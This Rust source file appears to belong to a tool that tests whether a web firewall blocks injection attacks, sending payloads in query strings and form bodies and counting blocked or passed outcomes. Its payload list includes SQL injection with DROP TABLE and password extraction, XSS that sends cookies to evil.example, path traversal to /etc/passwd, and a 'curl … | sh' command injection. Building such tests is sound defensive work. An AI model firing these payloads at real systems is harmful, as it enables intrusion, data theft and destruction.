//! `inject`: attack payloads — SQL injection, cross-site scripting, path traversal, command
//! injection — in a query parameter and in a form body, alternately, on the given paths.

use clap::ValueEnum;
use hyper::Method;

use super::load::{percent_encode, Requests, Shape};
use super::tally::{Counts, Outcome, Tally};

/// A family of payloads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Class {
    Sqli,
    Xss,
    Traversal,
    Cmd,
}

impl Class {
    pub fn name(self) -> &'static str {
        match self {
            Class::Sqli => "sqli",
            Class::Xss => "xss",
            Class::Traversal => "traversal",
            Class::Cmd => "cmd",
        }
    }
}

const CLASSES: [Class; 4] = [Class::Sqli, Class::Xss, Class::Traversal, Class::Cmd];

/// Payloads as attackers and their tools send them (sqlmap, XSS polyglots, LFI lists).
pub const PAYLOADS: &[(Class, &str)] = &[
    (Class::Sqli, "' OR '1'='1"),
    (Class::Sqli, "1' OR 1=1-- -"),
    (Class::Sqli, "1 UNION SELECT username, password FROM users--"),
    (Class::Sqli, "admin'--"),
    (Class::Sqli, "1; DROP TABLE contacts--"),
    (Class::Sqli, "' AND SLEEP(5)--"),
    (Class::Sqli, "1' AND (SELECT COUNT(*) FROM sqlite_master)>0--"),
    (Class::Sqli, "\" OR \"\"=\""),
    (Class::Xss, "<script>alert(1)</script>"),
    (Class::Xss, "<img src=x onerror=alert(document.cookie)>"),
    (Class::Xss, "<svg/onload=alert(1)>"),
    (Class::Xss, "\"><script>fetch('//evil.example/'+document.cookie)</script>"),
    (Class::Xss, "<body onload=alert(1)>"),
    (Class::Xss, "<iframe src=\"javascript:alert(1)\">"),
    (Class::Traversal, "../../../../etc/passwd"),
    (Class::Traversal, "..%2f..%2f..%2fetc%2fpasswd"),
    (Class::Traversal, "....//....//....//etc/passwd"),
    (Class::Traversal, "/proc/self/environ"),
    (Class::Traversal, "..\\..\\..\\windows\\win.ini"),
    (Class::Cmd, "; cat /etc/passwd"),
    (Class::Cmd, "| id"),
    (Class::Cmd, "$(whoami)"),
    (Class::Cmd, "`uname -a`"),
    (Class::Cmd, "&& curl http://evil.example/x.sh | sh"),
];

pub struct Inject {
    pub paths: Vec<String>,
    /// The query / form parameter the payload goes in.
    pub param: String,
    pub payloads: Vec<(Class, &'static str)>,
    /// Outcomes per family, in `CLASSES` order.
    by_class: [Tally; 4],
}

impl Inject {
    /// The payloads of `classes` (all when empty).
    pub fn new(paths: Vec<String>, param: String, classes: &[Class]) -> Inject {
        let payloads = PAYLOADS.iter().filter(|(c, _)| classes.is_empty() || classes.contains(c)).copied().collect();
        Inject { paths, param, payloads, by_class: [Tally::new(), Tally::new(), Tally::new(), Tally::new()] }
    }

    fn payload(&self, n: u64) -> (Class, &'static str) {
        self.payloads[((n / 2) % self.payloads.len() as u64) as usize]
    }
}

impl Requests for Inject {
    fn nth(&self, n: u64) -> Shape {
        let (_, payload) = self.payload(n);
        let path = &self.paths[((n / 2) % self.paths.len() as u64) as usize];
        let field = format!("{}={}", percent_encode(&self.param), percent_encode(payload));
        if n.is_multiple_of(2) {
            let sep = if path.contains('?') { '&' } else { '?' };
            Shape::get(format!("{path}{sep}{field}"))
        } else {
            Shape { method: Method::POST, path: path.clone(), form: Some(field) }
        }
    }

    fn observe(&self, n: u64, outcome: Outcome) {
        let class = self.payload(n).0;
        if let Some(i) = CLASSES.iter().position(|c| *c == class) {
            self.by_class[i].record(outcome, std::time::Duration::ZERO);
        }
    }

    fn by_kind(&self) -> Vec<(&'static str, Counts)> {
        CLASSES.iter().zip(&self.by_class).map(|(c, t)| (c.name(), t.summary().counts)).filter(|(_, c)| c.total() > 0).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_payload_in_the_query_then_the_body() {
        let i = Inject::new(vec!["/contacts".into()], "q".into(), &[]);
        assert_eq!(i.payloads.len(), PAYLOADS.len());
        let (a, b) = (i.nth(0), i.nth(1));
        assert_eq!(a.path, "/contacts?q=%27%20OR%20%271%27%3D%271");
        assert_eq!((b.method, b.path.as_str(), b.form.as_deref()), (Method::POST, "/contacts", Some("q=%27%20OR%20%271%27%3D%271")));
        let cmd = Inject::new(vec!["/".into()], "q".into(), &[Class::Cmd]);
        assert_eq!(cmd.payloads.len(), 5);
        cmd.observe(0, Outcome::Blocked);
        cmd.observe(1, Outcome::Passed);
        let kinds = cmd.by_kind();
        assert_eq!(kinds.len(), 1);
        assert_eq!((kinds[0].0, kinds[0].1.blocked, kinds[0].1.passed), ("cmd", 1, 1));
    }
}
